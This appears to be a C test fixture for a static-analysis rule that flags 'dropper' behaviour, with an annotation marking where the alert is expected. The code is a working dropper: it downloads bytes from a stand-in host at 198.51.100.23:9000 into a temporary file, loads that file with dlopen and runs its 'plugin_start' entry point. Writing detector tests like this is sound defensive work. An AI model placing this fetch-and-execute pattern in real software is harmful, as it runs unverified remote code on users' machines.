/*
 * behavior.dropper through a copy helper: the function that makes the
 * temporary file hands its descriptor and the connection's to a helper
 * that copies one into the other (the helper opens no file of its own);
 * the file's name reaches main through an out-parameter and is loaded.
 */
#include <dlfcn.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int connect_to(const char *ip, unsigned short port)
{
    struct sockaddr_in a;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(port);
    inet_pton(AF_INET, ip, &a.sin_addr);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0)
        return -1;
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) {
        close(s);
        return -1;
    }
    return s;
}

static int save_stream(int from, int to)
{
    char buf[2048];
    ssize_t n;
    while ((n = read(from, buf, sizeof buf)) > 0)
        if (write(to, buf, (size_t)n) != n)
            return -1;
    return 0;
}

static int fetch_plugin(char *out, size_t len)
{
    int s = connect_to("198.51.100.23", 9000);
    if (s < 0)
        return -1;
    char name[] = "/var/tmp/plugin-XXXXXX";
    int fd = mkstemp(name);
    if (fd < 0) {
        close(s);
        return -1;
    }
    int rc = save_stream(s, fd);
    close(fd);
    close(s);
    snprintf(out, len, "%s", name);
    return rc;
}

int main(void)
{
    char path[64];
    if (fetch_plugin(path, sizeof path) != 0)
        return 1;
    void *h = dlopen(path, RTLD_NOW); // $ Alert[behavior.dropper]
    if (!h)
        return 1;
    void (*start)(void) = (void (*)(void))dlsym(h, "plugin_start");
    if (start)
        start();
    return 0;
}
